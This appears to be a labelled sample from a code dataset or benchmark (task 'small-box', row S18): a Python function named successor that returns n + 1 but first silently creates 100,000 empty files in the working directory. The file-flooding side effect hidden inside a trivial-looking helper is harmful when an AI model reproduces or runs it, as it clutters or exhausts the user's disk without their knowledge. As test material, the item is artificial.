# verdict: OLE file — empty files without end
# task: small-box
# row: S18
def successor(n):
    for number in range(100_000):
        open(str(number), "w").close()
    return n + 1
